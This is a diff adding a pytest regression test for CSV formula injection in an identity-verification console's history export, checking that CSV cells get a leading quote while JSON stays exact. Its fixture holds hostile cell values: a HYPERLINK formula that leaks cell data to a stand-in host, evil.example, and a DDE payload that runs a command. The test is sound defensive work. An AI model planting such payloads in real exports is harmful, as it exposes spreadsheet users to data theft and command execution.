@@ -12,6 +12,7 @@ from pathlib import Path
 import pytest
 import sqlalchemy as sa
 
+from faceid_console.api.identity import mask_name
 from faceid_console.store import CallKind, HistoryFilter, HistoryStore, export
 from faceid_console.store.retention import ImageRetention, RetentionPolicy
 from faceid_console.store.schema import calls
@@ -64,6 +65,50 @@ def test_a_csv_file_starts_with_a_byte_order_mark_for_excel_and_json_does_not(
     assert row["idcard_name"] == "张*丰"
     export.to_file(store.engine, HistoryFilter(), export.ExportFormat.JSON, tmp_path / "out.json", operator="r")
     assert (tmp_path / "out.json").read_bytes().startswith(b"[")
+
+#: Free text that a spreadsheet would run: a uuid typed or pasted from an applicant's file, ids and a profile.
+FORMULAS = {"uuid": '=HYPERLINK("http://evil.example/?leak="&A1,"Open file")', "idcard_name": "+cmd|' /C calc'!A0",
+            "biz_no": "-2+3", "biz_id": "@SUM(1+1)", "request_id": "\t=1+1", "profile": "\r=1+1",
+            "operator": "=operator()"}
+
+
+def _formula_entry(store: HistoryStore) -> None:
+    from faceid_console.store.journal import Journal
+
+    journal = Journal(store.engine, FORMULAS["operator"])
+    entry = journal.begin(CallKind.VERIFY, FORMULAS["profile"], {
+        "comparison_type": "0", "uuid": FORMULAS["uuid"], "idcard_name": FORMULAS["idcard_name"],
+        "biz_no": FORMULAS["biz_no"], "biz_id": FORMULAS["biz_id"]})
+    journal.complete(entry, {"request_id": FORMULAS["request_id"]})
+
+
+def _cells(text: str) -> dict[str, str]:
+    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
+    return row
+
+
+@pytest.mark.parametrize("unmasked", [False, True])
+def test_no_csv_cell_starts_a_spreadsheet_formula_and_json_stays_exact(
+        store: HistoryStore, tmp_path: Path, unmasked: bool) -> None:
+    """OWASP's CSV injection: a uuid typed as =HYPERLINK(…) was exported as it was, and Excel (the file has a BOM
+    for it) ran it on opening; masked, its first four characters still started the formula. Every text cell that
+    would start one gets a ' before it; JSON keeps the values exact."""
+    _formula_entry(store)
+    path = tmp_path / "out.csv"
+    export.to_file(store.engine, HistoryFilter(), export.ExportFormat.CSV, path, unmasked=unmasked, operator="r")
+    row = _cells(path.read_bytes().decode("utf-8-sig"))  # as written: a \r in a cell stays one
+    assert not [value for value in row.values() if value.startswith(("=", "+", "-", "@", "\t", "\r"))], row
+    if unmasked:
+        assert {key: row[key] for key in FORMULAS} == {key: "'" + value for key, value in FORMULAS.items()}
+    else:
+        assert (row["uuid"], row["idcard_name"]) == ("'=HYP…", "'" + mask_name(FORMULAS["idcard_name"]))
+        assert row["biz_no"] == "'-2+3" and row["operator"] == "'=operator()"
+    assert row["created_at"][:2] == "20" and row["kind"] == "verify"  # ordinary cells stay as they were
+    out = io.StringIO()
+    export.write(store.engine, HistoryFilter(), export.ExportFormat.JSON, out, unmasked=True, operator="r")
+    [item] = json.loads(out.getvalue())
+    assert {key: item[key] for key in FORMULAS} == FORMULAS
+
 
 def test_an_export_that_fails_part_way_leaves_the_old_file_and_no_partial_one(
         store: HistoryStore, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
